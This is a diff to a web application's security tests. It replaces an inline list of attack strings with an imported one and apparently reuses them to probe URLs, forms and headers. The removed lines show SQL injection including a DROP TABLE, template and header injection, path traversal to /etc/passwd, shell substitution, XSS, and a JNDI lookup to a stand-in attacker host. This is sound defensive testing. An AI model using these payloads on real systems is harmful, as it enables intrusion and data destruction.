@@ -15,6 +15,7 @@ from werkzeug.exceptions import MethodNotAllowed
 from werkzeug.test import TestResponse
 
 from benchmarks.hostility.pages import Page, dangers
+from benchmarks.hostility.strings import INJECTIONS
 from config import ROOT, settings
 from pulse import db
 from pulse.outbox.models import Message
@@ -240,25 +241,7 @@ def test_a_template_with_a_form_has_a_token_in_it() -> None:
             assert re.search(r'\{% (extends|from|import|include) "', text), template
 
 
-# One of each kind of attack by text. What a template or a program would make of the sum is looked for.
-SUM, CONTROL = "7*191", "1337"
-ATTACKS = (
-    "' OR '1'='1' --",
-    "1; DROP TABLE person; --",
-    "x' UNION SELECT password_hash FROM person --",
-    "{{7*191}}${7*191}<%= 7*191 %>#{7*191}{% print(7*191) %}",
-    "{{config.__class__.__init__.__globals__}}{0.__class__}%(SECRET_KEY)s%n%s",
-    "x\r\nSet-Cookie: evil=1\r\n\r\n<script>alert(1)</script>",
-    "x%0d%0aSet-Cookie:%20evil=1",
-    "../../../../../../etc/passwd",
-    "..%2f..%2f..%2fetc%2fpasswd%00.csv",
-    "$(touch evil);`touch evil`|touch evil",
-    "*)(uid=*))(|(uid=*",
-    '"><svg onload=alert(1)>',
-    "javascript:alert(1)//",
-    "99999999999999999999999999",
-    "${jndi:ldap://evil.example/x}",
-)
+CONTROL = "1337"  # what a template would make of the sum in some of the injections
 NAMES = (
     "search",
     "show",
@@ -293,7 +276,7 @@ def test_no_text_in_an_address_is_taken_for_code_a_statement_a_header_or_a_path(
     for number, (rule, method, _) in enumerate(rules(house.app)):
         if method != "GET" or rule.rule.startswith("/assets/"):
             continue
-        for attack in (ATTACKS[number % len(ATTACKS)], ATTACKS[(number + 7) % len(ATTACKS)]):
+        for attack in (INJECTIONS[number % len(INJECTIONS)], INJECTIONS[(number + 7) % len(INJECTIONS)]):
             path = re.sub(r"<(?!int)[^>]+>", quote(attack, safe=""), rule.rule)
             path = re.sub(r"<int[^>]+>", "1", path)
             with house.client.get(path, query_string=dict.fromkeys(NAMES, attack)) as page:
@@ -319,7 +302,7 @@ def test_no_text_in_a_form_is_taken_for_code_a_statement_a_header_or_a_path(
     for number, (to, said) in enumerate(forms):
         if to.startswith(("/sign-out", "/me/")):
             continue  # to stay signed in
-        attacked = {name: ATTACKS[(number + at) % len(ATTACKS)] for at, name in enumerate(said)}
+        attacked = {name: INJECTIONS[(number + at) % len(INJECTIONS)] for at, name in enumerate(said)}
         page = house.client.post(to, data=attacked | {TOKEN: sealed})
         harmless(page, f"{to}: {attacked}")
     assert house.client.get("/me").status_code == 200
@@ -346,7 +329,7 @@ def test_no_text_in_a_header_is_taken_for_anything_but_text(house: House) -> Non
         "X-Original-URL",
         "X-HTTP-Method-Override",
     )
-    for attack in ATTACKS:
+    for attack in INJECTIONS:
         sent = {name: attack.replace("\r", "").replace("\n", "") for name in headers}
         for path in ("/sign-in", "/you-said", "/api/v1/fixes", "/b/code", "/static/pulse.css"):
             with stranger.get(path, headers=sent) as page:
